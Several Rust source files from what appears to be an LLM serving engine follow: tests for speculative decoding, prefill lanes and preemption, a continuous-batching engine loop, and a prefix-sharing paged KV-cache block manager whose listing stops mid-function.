        assert_eq!(spec, plain, "speculation changed the greedy output");
        assert!(accepted > 0, "no draft token was ever accepted");
        assert!(
            spec_steps < plain_steps,
            "speculation saved no decode steps: {spec_steps} vs {plain_steps}"
        );
    }

    #[test]
    fn acceptance_zero_degrades_to_one_token_per_step() {
        let mut profile = PerfProfile::by_name("intel-neural-7b").unwrap();
        profile.spec_accept = 0.0; // drafter never agrees with the target
        let mut b = SimBackend::new(profile);
        b.time_scale = 0.0;
        let backend = Arc::new(b);
        let tuning = EngineTuning {
            speculative: SpeculativeConfig {
                enabled: true,
                ..SpeculativeConfig::default()
            },
            ..EngineTuning::default()
        };
        let config = EngineConfig::for_backend_tuned(backend.as_ref(), &tuning);
        let engine = Engine::start(backend, config);
        let (text, steps, accepted) = run_counting(&engine);
        assert_eq!(text, "1 2 3 4 5 6 7 8 9 10");
        assert!(
            engine.stats.spec_proposed_tokens.load(Ordering::Relaxed) > 0,
            "drafter never ran"
        );
        assert_eq!(accepted, 0, "acceptance 0 must accept nothing");
        // Every verify returned exactly one (corrected) row, so the step
        // count matches plain decoding token for token.
        let generated = engine.stats.tokens_generated.load(Ordering::Relaxed);
        assert_eq!(
            steps, generated,
            "acceptance 0 should cost exactly one step per token"
        );
        engine.stop();
    }

    /// Prefill is slow and monolithic; decode is fast — the shape where a
    /// long-document aggressor steals decode steps from live streams.
    struct SlowPrefillBackend {
        per_token: Duration,
        step: Duration,
    }

    impl Backend for SlowPrefillBackend {
        fn max_batch(&self) -> usize {
            8
        }
        fn max_seq(&self) -> usize {
            4096
        }
        fn vocab(&self) -> usize {
            tokenizer::VOCAB
        }
        fn supports_chunked_prefill(&self) -> bool {
            true
        }
        fn prefill(&self, tokens: &[i32], cached_len: usize) -> anyhow::Result<(Vec<f32>, SeqState)> {
            let fresh = tokens.len().saturating_sub(cached_len) as u32;
            std::thread::sleep(self.per_token * fresh);
            Ok((EndlessBackend::one_hot(), SeqState { kv: None, cursor: 0 }))
        }
        fn decode(
            &self,
            tokens: &[i32],
            _positions: &[i32],
            _seqs: &mut [&mut SeqState],
        ) -> anyhow::Result<Vec<Vec<f32>>> {
            std::thread::sleep(self.step);
            Ok(tokens.iter().map(|_| EndlessBackend::one_hot()).collect())
        }
    }

    /// Worst inter-token gap an interactive stream sees while a
    /// long-document prefill lands mid-generation.
    fn aggressor_gap(lanes: usize) -> (Duration, bool) {
        let backend = Arc::new(SlowPrefillBackend {
            per_token: Duration::from_micros(100),
            step: Duration::from_millis(2),
        });
        let tuning = EngineTuning {
            prefill_chunk: 0, // monolithic: the worst case for inline prefill
            prefill_lanes: lanes,
            ..EngineTuning::default()
        };
        let config = EngineConfig::for_backend_tuned(backend.as_ref(), &tuning);
        let engine = Engine::start(backend, config);
        let (victim, rx, _cv) = request_with_prompt("hi", 150, 1024);
        assert!(engine.submit(victim));
        let first = rx.recv_timeout(Duration::from_secs(5)).unwrap();
        assert!(matches!(first, GenEvent::Token { .. }));
        // ~300ms of prefill arrives while the victim streams.
        let long_doc = "d".repeat(3000);
        let (agg, rx_agg, _ca) = request_with_prompt(&long_doc, 4, 1024);
        assert!(engine.submit(agg));
        let mut worst = Duration::ZERO;
        let mut last = Instant::now();
        let mut saw_lane_depth = false;
        loop {
            match rx.recv_timeout(Duration::from_secs(10)).unwrap() {
                GenEvent::Token { .. } => {
                    worst = worst.max(last.elapsed());
                    last = Instant::now();
                    if engine.stats.lane_depth_snapshot().iter().sum::<u64>() > 0 {
                        saw_lane_depth = true;
                    }
                }
                GenEvent::Done { .. } => break,
                GenEvent::Error(e) => panic!("victim errored: {e}"),
            }
        }
        let (_, reason) = drain(&rx_agg);
        assert_eq!(reason, FinishReason::Length);
        engine.stop();
        (worst, saw_lane_depth)
    }

    #[test]
    fn prefill_lanes_keep_interactive_decode_running() {
        let (gap_without, _) = aggressor_gap(0);
        let (gap_with, saw_depth) = aggressor_gap(1);
        assert!(
            gap_without >= Duration::from_millis(150),
            "inline monolithic prefill should have stalled the victim, gap={gap_without:?}"
        );
        assert!(
            gap_with < Duration::from_millis(150),
            "prefill lane failed to shield the victim, gap={gap_with:?}"
        );
        assert!(saw_depth, "per-lane depth gauge never showed the queued prefill");
    }

    #[test]
    fn speculative_batches_survive_preempt_and_resume() {
        let backend = fast_backend();
        // 3 blocks for two sequences that each need 2: one must be
        // preempted mid-speculation and resume after the other retires.
        let config = EngineConfig {
            kv_blocks: 3,
            kv_block_size: 16,
            growth_watermark: 0,
            speculative: SpeculativeConfig {
                enabled: true,
                ..SpeculativeConfig::default()
            },
            ..EngineConfig::for_backend(backend.as_ref())
        };
        let engine = Engine::start(backend, config);
        let (req_a, rx_a, _ca) = request(64, 1024);
        let (req_b, rx_b, _cb) = request(64, 1024);
        assert!(engine.submit(req_a));
        assert!(engine.submit(req_b));
        for rx in [&rx_a, &rx_b] {
            let mut text = Vec::new();
            let reason = loop {
                match rx.recv_timeout(Duration::from_secs(10)).unwrap() {
                    GenEvent::Token { bytes, .. } => text.extend(bytes),
                    GenEvent::Done { reason, .. } => break reason,
                    GenEvent::Error(e) => panic!("unexpected error: {e}"),
                }
            };
            assert_eq!(reason, FinishReason::Stop);
            assert_eq!(
                String::from_utf8_lossy(&text),
                "1 2 3 4 5 6 7 8 9 10",
                "accepted-batch tokens were lost or duplicated across preemption"
            );
        }
        assert!(
            engine.stats.preemptions.load(Ordering::Relaxed) >= 1,
            "KV budget was never tight enough to preempt"
        );
        assert!(
            engine.stats.spec_accepted_tokens.load(Ordering::Relaxed) > 0,
            "speculation never accepted a draft"
        );
        engine.stop();
    }
}
