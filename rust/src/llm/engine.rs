//! The continuous-batching inference engine (vLLM's core loop, Kwo+23).
//!
//! One engine per served model instance. A dedicated engine thread runs
//! the schedule-prefill-decode loop:
//!
//! ```text
//!   loop {
//!     admit waiting requests (KV block budget + batch bucket allow);
//!     prefill at most one admitted prompt;            // prioritize decode
//!     decode one step over all running sequences;     // batched
//!     sample, stream tokens, retire finished;
//!   }
//! ```
//!
//! Sequences join and leave the batch between steps — continuous
//! batching, not static gang batching.

use std::collections::VecDeque;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::mpsc::{Receiver, Sender, SyncSender, TrySendError};
use std::sync::{Arc, Mutex};

use super::backend::{Backend, SeqState};
use super::kv_cache::BlockManager;
use super::sampler::{Sampler, SamplingParams};
use super::tokenizer;
use crate::util::hist::Histogram;

/// A generation request submitted to the engine.
pub struct GenRequest {
    pub prompt_tokens: Vec<i32>,
    pub max_tokens: usize,
    pub sampling: SamplingParams,
    /// Token events stream here; the channel closing is the client
    /// disconnect signal (generation is aborted).
    pub events: SyncSender<GenEvent>,
}

/// Events emitted per request.
#[derive(Debug, Clone, PartialEq)]
pub enum GenEvent {
    /// One generated token (id + decoded bytes).
    Token { id: i32, bytes: Vec<u8> },
    /// Generation finished.
    Done { reason: FinishReason, tokens: usize },
    /// The engine rejected or aborted the request.
    Error(String),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FinishReason {
    Stop,       // EOS
    Length,     // max_tokens or context limit
    Disconnect, // client went away
}

/// Engine metrics (exported via /metrics).
#[derive(Default)]
pub struct EngineStats {
    pub requests: AtomicU64,
    pub completed: AtomicU64,
    pub rejected: AtomicU64,
    pub tokens_generated: AtomicU64,
    pub decode_steps: AtomicU64,
    /// Sum of batch sizes over steps (for avg batch occupancy).
    pub batched_seqs: AtomicU64,
    pub queue_depth: AtomicU64,
    pub running: AtomicU64,
}

/// Handle for submitting work; cheap to clone.
pub struct Engine {
    tx: Mutex<Sender<GenRequest>>,
    pub stats: Arc<EngineStats>,
    pub first_token_us: Arc<Histogram>,
    pub step_us: Arc<Histogram>,
    shutdown: Arc<AtomicBool>,
    thread: Mutex<Option<std::thread::JoinHandle<()>>>,
}

struct RunningSeq {
    state: SeqState,
    sampler: Sampler,
    events: SyncSender<GenEvent>,
    position: i32,
    generated: usize,
    max_tokens: usize,
    seq_id: u64,
    started_at: std::time::Instant,
    first_token_sent: bool,
    /// Last sampled token — the next decode step's input.
    last_token: i32,
}

/// Engine configuration knobs (ablation surface).
#[derive(Clone)]
pub struct EngineConfig {
    /// Cap on concurrent running sequences (≤ backend bucket).
    pub max_batch: usize,
    /// KV blocks available (admission budget).
    pub kv_blocks: usize,
    pub kv_block_size: usize,
    /// Max prompt length accepted (longer prompts are truncated from the
    /// left, keeping the suffix).
    pub max_prompt: usize,
    /// Prefills performed per loop iteration (1 = decode-priority).
    pub prefills_per_iter: usize,
}

impl EngineConfig {
    pub fn for_backend(b: &dyn Backend) -> EngineConfig {
        let max_seq = b.max_seq();
        EngineConfig {
            max_batch: b.max_batch(),
            // enough blocks for max_batch full-length sequences
            kv_blocks: b.max_batch() * max_seq.div_ceil(16),
            kv_block_size: 16,
            max_prompt: max_seq.saturating_sub(16).max(1),
            prefills_per_iter: 1,
        }
    }
}

impl Engine {
    /// Start the engine thread over `backend`.
    pub fn start(backend: Arc<dyn Backend>, config: EngineConfig) -> Arc<Engine> {
        let (tx, rx) = std::sync::mpsc::channel::<GenRequest>();
        let stats = Arc::new(EngineStats::default());
        let first_token_us = Arc::new(Histogram::new());
        let step_us = Arc::new(Histogram::new());
        let shutdown = Arc::new(AtomicBool::new(false));

        let loop_stats = stats.clone();
        let loop_first = first_token_us.clone();
        let loop_step = step_us.clone();
        let loop_shutdown = shutdown.clone();
        let thread = std::thread::Builder::new()
            .name("llm-engine".into())
            .spawn(move || {
                engine_loop(
                    backend,
                    config,
                    rx,
                    loop_stats,
                    loop_first,
                    loop_step,
                    loop_shutdown,
                )
            })
            .expect("spawn engine");

        Arc::new(Engine {
            tx: Mutex::new(tx),
            stats,
            first_token_us,
            step_us,
            shutdown,
            thread: Mutex::new(Some(thread)),
        })
    }

    /// Submit a request. Returns false if the engine is shut down.
    pub fn submit(&self, req: GenRequest) -> bool {
        self.stats.requests.fetch_add(1, Ordering::Relaxed);
        self.tx.lock().unwrap().send(req).is_ok()
    }

    pub fn stop(&self) {
        self.shutdown.store(true, Ordering::SeqCst);
        // Nudge the loop with a no-op channel close by dropping a cloned
        // sender? The loop polls with timeout, so the flag is enough.
        if let Some(h) = self.thread.lock().unwrap().take() {
            let _ = h.join();
        }
    }
}

impl Drop for Engine {
    fn drop(&mut self) {
        self.shutdown.store(true, Ordering::SeqCst);
        if let Some(h) = self.thread.lock().unwrap().take() {
            let _ = h.join();
        }
    }
}

fn engine_loop(
    backend: Arc<dyn Backend>,
    config: EngineConfig,
    rx: Receiver<GenRequest>,
    stats: Arc<EngineStats>,
    first_token_us: Arc<Histogram>,
    step_us: Arc<Histogram>,
    shutdown: Arc<AtomicBool>,
) {
    let mut waiting: VecDeque<GenRequest> = VecDeque::new();
    let mut running: Vec<RunningSeq> = Vec::new();
    let mut blocks = BlockManager::new(config.kv_blocks, config.kv_block_size);
    let mut next_seq_id = 1u64;

    loop {
        if shutdown.load(Ordering::SeqCst) {
            for seq in running.drain(..) {
                let _ = seq.events.send(GenEvent::Error("engine shutting down".into()));
            }
            return;
        }

        // ---- intake -----------------------------------------------------
        if running.is_empty() && waiting.is_empty() {
            // Idle: block until work arrives (100ms poll for shutdown).
            match rx.recv_timeout(std::time::Duration::from_millis(100)) {
                Ok(req) => waiting.push_back(req),
                Err(std::sync::mpsc::RecvTimeoutError::Timeout) => continue,
                Err(std::sync::mpsc::RecvTimeoutError::Disconnected) => return,
            }
        }
        while let Ok(req) = rx.try_recv() {
            waiting.push_back(req);
        }
        stats
            .queue_depth
            .store(waiting.len() as u64, Ordering::Relaxed);

        // ---- admission + prefill -----------------------------------------
        let mut prefills = 0;
        while prefills < config.prefills_per_iter
            && running.len() < config.max_batch
            && !waiting.is_empty()
        {
            let mut req = waiting.pop_front().unwrap();
            // Truncate over-long prompts from the left (keep the suffix —
            // the recent conversation matters most).
            if req.prompt_tokens.len() > config.max_prompt {
                let start = req.prompt_tokens.len() - config.max_prompt;
                req.prompt_tokens.drain(..start);
            }
            if req.prompt_tokens.is_empty() {
                let _ = req.events.send(GenEvent::Error("empty prompt".into()));
                stats.rejected.fetch_add(1, Ordering::Relaxed);
                continue;
            }
            if !blocks.can_admit(req.prompt_tokens.len()) {
                // No KV budget: put it back and stop admitting.
                waiting.push_front(req);
                break;
            }
            let started_at = std::time::Instant::now();
            match backend.prefill(&req.prompt_tokens) {
                Ok((logits, state)) => {
                    let seq_id = next_seq_id;
                    next_seq_id += 1;
                    blocks.admit(seq_id, req.prompt_tokens.len()).unwrap();
                    let mut seq = RunningSeq {
                        state,
                        sampler: Sampler::new(req.sampling.clone()),
                        events: req.events,
                        position: req.prompt_tokens.len() as i32,
                        generated: 0,
                        max_tokens: req.max_tokens.max(1),
                        seq_id,
                        started_at,
                        first_token_sent: false,
                        last_token: 0,
                    };
                    // Sample the first token straight from prefill logits.
                    let tok = seq.sampler.sample(&logits);
                    if !emit_token(&mut seq, tok, &stats, &first_token_us)
                        || finished_after_token(&seq, tok, backend.max_seq())
                    {
                        retire(seq, tok, backend.max_seq(), &mut blocks, &stats);
                    } else {
                        running.push(seq);
                    }
                    prefills += 1;
                }
                Err(e) => {
                    let _ = req.events.send(GenEvent::Error(format!("prefill: {e}")));
                    stats.rejected.fetch_add(1, Ordering::Relaxed);
                }
            }
        }
        stats.running.store(running.len() as u64, Ordering::Relaxed);

        if running.is_empty() {
            continue;
        }

        // ---- one batched decode step --------------------------------------
        // The token we feed is the one we just emitted (stored implicitly:
        // re-sample? No — we keep last token per sequence).
        let tokens: Vec<i32> = running.iter().map(|s| s.last_token).collect();
        let positions: Vec<i32> = running.iter().map(|s| s.position).collect();
        let step_start = std::time::Instant::now();
        let mut states: Vec<&mut SeqState> =
            running.iter_mut().map(|s| &mut s.state).collect();
        let result = backend.decode(&tokens, &positions, &mut states);
        drop(states);
        step_us.record(step_start.elapsed().as_micros() as u64);
        stats.decode_steps.fetch_add(1, Ordering::Relaxed);
        stats
            .batched_seqs
            .fetch_add(running.len() as u64, Ordering::Relaxed);

        match result {
            Ok(logits_rows) => {
                let max_seq = backend.max_seq();
                let mut keep: Vec<RunningSeq> = Vec::with_capacity(running.len());
                for (mut seq, logits) in running.drain(..).zip(logits_rows) {
                    seq.position += 1;
                    if blocks.append_token(seq.seq_id).is_err() {
                        let _ = seq
                            .events
                            .send(GenEvent::Error("KV budget exhausted".into()));
                        let _ = blocks.release(seq.seq_id);
                        stats.rejected.fetch_add(1, Ordering::Relaxed);
                        continue;
                    }
                    let tok = seq.sampler.sample(&logits);
                    if !emit_token(&mut seq, tok, &stats, &first_token_us)
                        || finished_after_token(&seq, tok, max_seq)
                    {
                        retire(seq, tok, max_seq, &mut blocks, &stats);
                    } else {
                        keep.push(seq);
                    }
                }
                running = keep;
            }
            Err(e) => {
                log::error!(target: "llm", "decode step failed: {e}");
                for seq in running.drain(..) {
                    let _ = seq.events.send(GenEvent::Error(format!("decode: {e}")));
                    let _ = blocks.release(seq.seq_id);
                }
            }
        }
    }
}

// RunningSeq needs last_token; add via a small extension trait-free field.
// (Defined here to keep the struct fields together above.)
impl RunningSeq {
    fn note_token(&mut self, tok: i32) {
        self.last_token = tok;
    }
}

/// Emit a token event; returns false when the client disconnected.
fn emit_token(
    seq: &mut RunningSeq,
    tok: i32,
    stats: &EngineStats,
    first_token_us: &Histogram,
) -> bool {
    seq.note_token(tok);
    if tok == tokenizer::EOS {
        return true; // handled by finished_after_token; nothing to stream
    }
    seq.generated += 1;
    stats.tokens_generated.fetch_add(1, Ordering::Relaxed);
    if !seq.first_token_sent {
        seq.first_token_sent = true;
        first_token_us.record(seq.started_at.elapsed().as_micros() as u64);
    }
    let event = GenEvent::Token {
        id: tok,
        bytes: tokenizer::decode_token(tok),
    };
    match seq.events.try_send(event) {
        Ok(()) => true,
        Err(TrySendError::Full(_)) => {
            // Slow client: block briefly (backpressure), then drop.
            seq.events
                .send(GenEvent::Token {
                    id: tok,
                    bytes: tokenizer::decode_token(tok),
                })
                .is_ok()
        }
        Err(TrySendError::Disconnected(_)) => false,
    }
}

fn finished_after_token(seq: &RunningSeq, tok: i32, max_seq: usize) -> bool {
    tok == tokenizer::EOS
        || seq.generated >= seq.max_tokens
        || (seq.position as usize) >= max_seq - 1
}

fn retire(
    seq: RunningSeq,
    last_tok: i32,
    max_seq: usize,
    blocks: &mut BlockManager,
    stats: &EngineStats,
) {
    let reason = if last_tok == tokenizer::EOS {
        FinishReason::Stop
    } else if seq.generated >= seq.max_tokens || (seq.position as usize) >= max_seq - 1 {
        FinishReason::Length
    } else {
        FinishReason::Disconnect
    };
    let _ = seq.events.send(GenEvent::Done {
        reason,
        tokens: seq.generated,
    });
    let _ = blocks.release(seq.seq_id);
    stats.completed.fetch_add(1, Ordering::Relaxed);
}
