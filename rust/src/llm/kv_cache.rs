//! Prefix-aware paged KV-cache block manager — vLLM's PagedAttention
//! bookkeeping extended with RadixAttention-style prefix reuse, adapted
//! per DESIGN.md §Hardware-Adaptation: the *paging* is coordinator state;
//! the kernel/HLO sees contiguous per-slot KV.
//!
//! Three ideas on top of the classic fixed-budget allocator:
//!
//! 1. **Refcounted, content-hashed blocks.** Every *full* block is keyed
//!    by a chained hash of its token contents (parent hash ⊕ tokens), so
//!    two sequences whose prompts share a prefix attach to the *same*
//!    physical blocks. A shared block is never mutated: appends into a
//!    shared partial block copy-on-write, appends past a full block open
//!    a fresh one.
//! 2. **Cached-free pool.** Blocks released by finished sequences keep
//!    their contents and linger in an LRU pool. A later admission whose
//!    prompt matches revives them for free (a repeated system prompt
//!    costs prefill exactly once); allocation under pressure reclaims
//!    from the pool's cold end.
//! 3. **Growth watermark.** `can_admit` reserves `growth_watermark`
//!    blocks of decode headroom per live sequence, so admission — not
//!    mid-decode exhaustion — is where the budget binds and preemption
//!    stays the exception.

use std::collections::{HashMap, VecDeque};

/// Errors surfaced to the engine's admission logic.
#[derive(Debug, PartialEq, Eq, thiserror::Error)]
pub enum KvError {
    #[error("out of KV blocks")]
    OutOfBlocks,
    #[error("unknown sequence {0}")]
    UnknownSeq(u64),
}

/// What an admission got for free from the prefix cache.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct AdmitGrant {
    /// Prompt tokens whose KV was already resident (no prefill needed).
    pub cached_tokens: usize,
    /// Physical blocks attached by refcount instead of allocation.
    pub shared_blocks: usize,
}

/// One physical KV block's bookkeeping.
#[derive(Debug, Default, Clone)]
struct Block {
    /// Live references (sequence tables). 0 = free or cached.
    refs: u32,
    /// Token contents (the content-addressing substrate).
    tokens: Vec<i32>,
    /// Chained content hash; set iff the block is full and hashing is on.
    hash: Option<u64>,
}

/// Block-table entry bookkeeping for one sequence.
#[derive(Debug, Clone)]
struct SeqBlocks {
    blocks: Vec<u32>,
    tokens: usize,
}

/// Fixed-budget, prefix-sharing block allocator.
pub struct BlockManager {
    block_size: usize,
    total: usize,
    blocks: Vec<Block>,
    /// Blank blocks, immediately allocatable.
    free: Vec<u32>,
    /// Content-retaining free blocks (refs == 0, full, hash-registered).
    /// Front = least recently released = first reclaimed.
    cached: VecDeque<u32>,
    /// Full-block chained content hash → physical block (live or cached).
    by_hash: HashMap<u64, u32>,
    seqs: HashMap<u64, SeqBlocks>,
    /// Content hashing + cached-free pool on/off (the ablation switch).
    prefix_cache: bool,
    /// Decode-growth blocks reserved per live sequence in `can_admit`.
    growth_watermark: usize,
}

/// FNV-1a over the parent block's hash and the block's token contents —
/// the "rolling" hash that makes equal prefixes collide on purpose.
///
/// Public because the federation router keys its cache-affinity table
/// with the *same* chained scheme: a routing-side hash of a prompt's
/// first block equals the block hash the target cluster's BlockManager
/// will compute, so "this cluster has seen this prefix" is a literal
/// statement about resident KV blocks, not a heuristic.
pub fn chain_hash(parent: u64, tokens: &[i32]) -> u64 {
    const PRIME: u64 = 0x100000001b3;
    let mut h: u64 = 0xcbf29ce484222325;
    h ^= parent;
    h = h.wrapping_mul(PRIME);
    for &t in tokens {
        h ^= t as u32 as u64;
        h = h.wrapping_mul(PRIME);
    }
    h
}

/// Routing key for a prompt: the chained hash of its first *full* block
/// (the deepest shared ancestor of every turn in a conversation — later
/// turns extend the token stream, so their first block is identical).
/// Prompts shorter than one block hash whatever tokens exist; an empty
/// prompt keys on the FNV offset basis itself.
pub fn prefix_route_hash(tokens: &[i32], block_size: usize) -> u64 {
    let take = tokens.len().min(block_size.max(1));
    chain_hash(0, &tokens[..take])
}

impl BlockManager {
    pub fn new(total_blocks: usize, block_size: usize) -> BlockManager {
        Self::with_options(total_blocks, block_size, true, 0)
    }

    pub fn with_options(
        total_blocks: usize,
        block_size: usize,
        prefix_cache: bool,
        growth_watermark: usize,
    ) -> BlockManager {
        assert!(block_size > 0 && total_blocks > 0);
        BlockManager {
            block_size,
            total: total_blocks,
            blocks: vec![Block::default(); total_blocks],
            free: (0..total_blocks as u32).rev().collect(),
            cached: VecDeque::new(),
            by_hash: HashMap::new(),
            seqs: HashMap::new(),
            prefix_cache,
            growth_watermark,
        }
    }

    fn blocks_for(&self, tokens: usize) -> usize {
        tokens.div_ceil(self.block_size)
    }

    /// Blank free blocks.
    pub fn free_blocks(&self) -> usize {
        self.free.len()
    }

    /// Reclaimable content-retaining blocks.
    pub fn cached_blocks(&self) -> usize {
        self.cached.len()
    }

    /// Blocks allocatable right now (blank + reclaimable).
    pub fn available_blocks(&self) -> usize {
        self.free.len() + self.cached.len()
    }

    /// Blocks held live by sequences.
    pub fn used_blocks(&self) -> usize {
        self.total - self.available_blocks()
    }

    /// Tokens accounted for a live sequence.
    pub fn seq_tokens(&self, seq: u64) -> Option<usize> {
        self.seqs.get(&seq).map(|s| s.tokens)
    }

    pub fn live_seqs(&self) -> usize {
        self.seqs.len()
    }

    /// Walk the prompt's full blocks through the hash index; returns the
    /// shareable block ids (in order) and the token count they cover. At
    /// least one trailing token is always left uncached so prefill has a
    /// position to produce next-token logits from.
    fn scan_prefix(&self, tokens: &[i32]) -> (Vec<u32>, usize) {
        if !self.prefix_cache {
            return (Vec::new(), 0);
        }
        let max_cacheable = tokens.len().saturating_sub(1);
        let mut hits = Vec::new();
        let mut parent = 0u64;
        let mut pos = 0usize;
        while pos + self.block_size <= max_cacheable {
            let chunk = &tokens[pos..pos + self.block_size];
            let h = chain_hash(parent, chunk);
            match self.by_hash.get(&h) {
                // Verify contents: the hash is an index, not a proof.
                Some(&b) if self.blocks[b as usize].tokens == chunk => {
                    hits.push(b);
                    parent = h;
                    pos += self.block_size;
                }
                _ => break,
            }
        }
        (hits, pos)
    }

    /// Pop a blank block, reclaiming the coldest cached block if needed.
    fn alloc_block(&mut self) -> Option<u32> {
        if let Some(b) = self.free.pop() {
            return Some(b);
        }
        let b = self.cached.pop_front()?;
        let block = &mut self.blocks[b as usize];
        let hash = block.hash.take();
        block.tokens.clear();
        if let Some(h) = hash {
            if self.by_hash.get(&h) == Some(&b) {
                self.by_hash.remove(&h);
            }
        }
        Some(b)
    }

    /// Hash a block that just became full and register it for sharing.
    /// `parent` is the previous block's chained hash (0 for the first).
    fn seal_full_block(&mut self, b: u32, parent: u64) {
        if !self.prefix_cache {
            return;
        }
        let h = chain_hash(parent, &self.blocks[b as usize].tokens);
        self.blocks[b as usize].hash = Some(h);
        // First writer wins; duplicate contents just stay unregistered.
        self.by_hash.entry(h).or_insert(b);
    }

    /// Chained hash of the block *before* index `i` in a table (0 if
    /// first, or if hashing is off).
    fn parent_hash(&self, table: &[u32], i: usize) -> u64 {
        if i == 0 {
            return 0;
        }
        self.blocks[table[i - 1] as usize].hash.unwrap_or(0)
    }

    /// Can a new sequence with this prompt be admitted right now, leaving
    /// `growth_watermark` blocks of decode headroom per live sequence?
    pub fn can_admit(&self, tokens: &[i32]) -> bool {
        let len = tokens.len().max(1);
        let (hits, _) = self.scan_prefix(tokens);
        let cached_hits = hits
            .iter()
            .filter(|&&b| self.blocks[b as usize].refs == 0)
            .count();
        let need = self.blocks_for(len) - hits.len();
        let reserve = self.growth_watermark * (self.seqs.len() + 1);
        need + reserve + cached_hits <= self.available_blocks()
    }

    /// Could this prompt fit even with the manager completely idle? False
    /// means the request can never run and must be rejected, not queued.
    pub fn can_ever_admit(&self, tokens: &[i32]) -> bool {
        self.blocks_for(tokens.len().max(1)) + self.growth_watermark <= self.total
    }

    /// Admit a sequence, attaching shared prefix blocks where the prompt's
    /// contents are already resident. Enforces only hard feasibility (the
    /// watermark is `can_admit`/`try_admit`'s business).
    pub fn admit(&mut self, seq: u64, tokens: &[i32]) -> Result<AdmitGrant, KvError> {
        self.admit_inner(seq, tokens, false)
    }

    /// `can_admit` + `admit` in one pass — a single prefix scan instead of
    /// two. The engine's admission hot path: fails (leaving the manager
    /// untouched) unless the growth watermark still leaves headroom.
    pub fn try_admit(&mut self, seq: u64, tokens: &[i32]) -> Result<AdmitGrant, KvError> {
        self.admit_inner(seq, tokens, true)
    }

    fn admit_inner(
        &mut self,
        seq: u64,
        tokens: &[i32],
        enforce_watermark: bool,
    ) -> Result<AdmitGrant, KvError> {
        let toks: &[i32] = if tokens.is_empty() { &[0] } else { tokens };
        let len = toks.len();
        let total_blocks = self.blocks_for(len);
        let (hits, cached_tokens) = self.scan_prefix(toks);
        let cached_hits = hits
            .iter()
            .filter(|&&b| self.blocks[b as usize].refs == 0)
            .count();
        let need = total_blocks - hits.len();
        let reserve = if enforce_watermark {
            self.growth_watermark * (self.seqs.len() + 1)
        } else {
            0
        };
        // Attached cached-pool hits leave the reclaimable pool, so they
        // must not double-count as allocatable headroom.
        if need + reserve + cached_hits > self.available_blocks() {
            return Err(KvError::OutOfBlocks);
        }
        // Revive cached-pool hits in one pass (k·pool instead of k passes
        // of pool element moves).
        let revived: Vec<u32> = hits
            .iter()
            .copied()
            .filter(|&b| self.blocks[b as usize].refs == 0)
            .collect();
        if !revived.is_empty() {
            self.cached.retain(|c| !revived.contains(c));
        }
        let mut table = Vec::with_capacity(total_blocks);
        for &b in &hits {
            self.blocks[b as usize].refs += 1;
            table.push(b);
        }
        let mut parent = hits
            .last()
            .map(|&b| self.blocks[b as usize].hash.unwrap_or(0))
            .unwrap_or(0);
        let mut pos = cached_tokens;
        while pos < len {
            let b = self.alloc_block().expect("feasibility checked above");
            let end = (pos + self.block_size).min(len);
            {
                let block = &mut self.blocks[b as usize];
                block.refs = 1;
                block.tokens.clear();
                block.tokens.extend_from_slice(&toks[pos..end]);
                block.hash = None;
            }
            if end - pos == self.block_size {
                self.seal_full_block(b, parent);
                parent = self.blocks[b as usize].hash.unwrap_or(0);
            }
            table.push(b);
            pos = end;
        }
        self.seqs.insert(
            seq,
            SeqBlocks {
                blocks: table,
                tokens: len,
            },
        );
        Ok(AdmitGrant {
            cached_tokens,
            shared_blocks: hits.len(),
        })
    }

    /// Grow a sequence by one generated token. Opens a fresh block at
    /// boundaries; a shared partial tail copies-on-write first. On
    /// `OutOfBlocks` the engine must preempt someone.
    pub fn append_token(&mut self, seq: u64, token: i32) -> Result<(), KvError> {
        let bs = self.block_size;
        let (tokens, tail, table_len) = {
            let entry = self.seqs.get(&seq).ok_or(KvError::UnknownSeq(seq))?;
            (
                entry.tokens,
                *entry.blocks.last().expect("non-empty table"),
                entry.blocks.len(),
            )
        };
        if tokens % bs == 0 {
            // Tail block is full: this token opens a new block.
            let parent = self.blocks[tail as usize].hash.unwrap_or(0);
            let b = self.alloc_block().ok_or(KvError::OutOfBlocks)?;
            let block = &mut self.blocks[b as usize];
            block.refs = 1;
            block.tokens.clear();
            block.tokens.push(token);
            block.hash = None;
            if bs == 1 {
                // One-token blocks are born full.
                self.seal_full_block(b, parent);
            }
            let entry = self.seqs.get_mut(&seq).unwrap();
            entry.blocks.push(b);
            entry.tokens += 1;
            return Ok(());
        }
        // Appending into a partial tail block.
        let tail = if self.blocks[tail as usize].refs > 1 {
            // Copy-on-write: first divergent append into a shared block.
            let b = self.alloc_block().ok_or(KvError::OutOfBlocks)?;
            let copy = self.blocks[tail as usize].tokens.clone();
            self.blocks[tail as usize].refs -= 1;
            let block = &mut self.blocks[b as usize];
            block.refs = 1;
            block.tokens = copy;
            block.hash = None;
            let entry = self.seqs.get_mut(&seq).unwrap();
            *entry.blocks.last_mut().unwrap() = b;
            b
        } else {
            tail
        };
        self.blocks[tail as usize].tokens.push(token);
        let became_full = self.blocks[tail as usize].tokens.len() == bs;
        if became_full {
            let entry = self.seqs.get(&seq).unwrap();
            let parent = self.parent_hash(&entry.blocks, table_len - 1);
            self.seal_full_block(tail, parent);
        }
        let entry = self.seqs.get_mut(&seq).unwrap();
        entry.tokens += 1;
        Ok(())
    }

    /// Fork `child` off `parent`: every block — including a partial tail —
    /// is attached by refcount. The copy happens lazily, on the first
    /// divergent append into the shared tail (`append_token`'s CoW path),
    /// so a fork that never diverges costs zero blocks. Returns the
    /// number of blocks shared.
    pub fn fork(&mut self, parent: u64, child: u64) -> Result<usize, KvError> {
        if parent == child || self.seqs.contains_key(&child) {
            return Err(KvError::UnknownSeq(child));
        }
        let (blocks, tokens) = {
            let src = self.seqs.get(&parent).ok_or(KvError::UnknownSeq(parent))?;
            (src.blocks.clone(), src.tokens)
        };
        for &b in &blocks {
            self.blocks[b as usize].refs += 1;
        }
        let shared = blocks.len();
        self.seqs.insert(child, SeqBlocks { blocks, tokens });
        Ok(shared)
    }

    /// Release a finished (or preempted, or abandoned) sequence. Shared
    /// blocks only lose a reference; fully released full blocks retire
    /// into the cached-free pool for later prefix hits. Blocks are
    /// released child-first, so LRU reclamation evicts chain leaves
    /// before the roots that make them reachable.
    pub fn release(&mut self, seq: u64) -> Result<(), KvError> {
        let entry = self.seqs.remove(&seq).ok_or(KvError::UnknownSeq(seq))?;
        for b in entry.blocks.into_iter().rev() {
            self.release_block(b, true);
        }
        Ok(())
